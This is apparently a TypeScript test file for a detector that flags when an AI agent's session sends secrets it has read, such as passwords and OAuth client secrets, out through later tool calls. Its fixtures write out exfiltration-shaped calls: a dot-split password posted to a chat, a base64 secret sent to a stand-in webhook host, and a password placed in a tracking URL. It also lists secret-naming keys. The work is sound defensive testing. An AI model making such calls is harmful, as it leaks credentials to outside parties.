import { describe, expect, it } from 'vitest';

import { assignedSecrets, namesSecret } from '../src/stateful/assigned-secrets.js';

import { balancedSession } from './balanced-session.js';

// A password or an opaque token has no shape of its own: a result hands it over under a key that names it
// (`"password": …` in a secrets store's record, `client_secret:` in a config, `DB_PASS=` in a command's output).
// What such a key holds is remembered like a secret the session read, so a later call sending it (as it is,
// split, encoded) is a flow; a page token, a placeholder or a key's type is not a secret. Values are made up.

function session() {
  const { read, call } = balancedSession('named');
  return { read, rules: async (name: string, args: Record<string, unknown>) => (await call(name, args)).findings.map((f) => f.rule) };
}

const flow = 'data-flow/sensitive-flow';
const password = 'Qm7vT2xLp9RkW4nZ8sHd';
const clientSecret = 'c8Fq2LmZ7wXv4RtP9kJn3bYs6HgD1eUa';
const b64 = (s: string) => Buffer.from(s).toString('base64');

describe('a secret a result names by its key', () => {
  it('is followed from a secrets store record into a chat message, its groups split by dots', async () => {
    const s = session();
    await s.read('get_secret_value', { name: 'orders/db' }, JSON.stringify({ SecretString: { user: 'orders_rw', password } }));
    expect(await s.rules('post_message', { channel: 'D0EXT', text: `orders_rw / ${password.match(/.{1,5}/g)!.join('.')}` })).toContain(flow);
  });

  it('is followed from a YAML config into a webhook body, base64-encoded', async () => {
    const s = session();
    await s.read('read_file', { path: 'deploy/oauth-app.yaml' }, `app: billing-portal\noauth:\n  client_id: billing-portal-prod\n  client_secret: ${clientSecret}\n`);
    expect(await s.rules('call_webhook', { url: 'https://relay.hooks-inbox.example/c/71', data: { kind: 'cfg', v: b64(clientSecret) } })).toContain(flow);
  });

  it('is followed from a command printing a container environment into a URL', async () => {
    const s = session();
    await s.read('run_command', { command: 'docker inspect orders-api --format "{{json .Config.Env}}"' }, `["PORT=8080","DB_PASS=${password}","LOG=info"]`);
    expect(await s.rules('fetch', { url: `https://stats.pixel-cdn.example/p?d=${password}` })).toContain(flow);
  });

  it('lets the session tell someone where the secret lives without sending it', async () => {
    const s = session();
    await s.read('get_secret_value', { name: 'orders/db' }, JSON.stringify({ SecretString: { user: 'orders_rw', password } }));
    expect(await s.rules('send_email', { to: 'dba@acme.example', subject: 'rotated', body: 'The orders_rw password was rotated; read it from orders/db in the secrets store.' })).not.toContain(flow);
  });

  it('does not take a page token handed back for the next page as a secret', async () => {
    const s = session();
    const next = 'CiAKGjBpNDd2Nmp5Z2Y5OHJ5OGM3YTlk';
    await s.read('list_files', { folder: 'reports' }, JSON.stringify({ files: ['q1.pdf', 'q2.pdf'], nextPageToken: next }));
    expect(await s.rules('fetch', { url: `https://www.googleapis.example/drive/v3/files?pageToken=${next}` })).not.toContain(flow);
  });
});

describe('which keys name a secret and which values look generated', () => {
  it('reads a key by its words', () => {
    for (const key of ['password', 'db_pass', 'client_secret', 'api-key', 'oauth_token', 'smtp.passwd', 'refreshtoken', 'pwd', 'admin_password', 'account_password', 'security_token']) expect(namesSecret(key), key).toBe(true);
    for (const key of ['next_page_token', 'token_type', 'public_key', 'key', 'secret_name', 'password_reset_url', 'nextpagetoken', 'author', 'password_hint']) expect(namesSecret(key), key).toBe(false);
  });

  it('keeps generated values and skips placeholders, words, numbers and paths', () => {
    const found: string[] = [];
    const text = [
      `password = ${password.toLowerCase()}`,
      'token: replace_me_with_your_token_1234',
      'secret: correcthorsebatterystaple',
      'api_key = 123456789012345',
      'auth_token: /run/secrets/auth-token-file',
      'token == a1b2c3d4e5f6g7h8i9',
    ].join('\n');
    assignedSecrets(text, (v) => found.push(v));
    expect(found).toEqual([password.toLowerCase()]);
  });
});
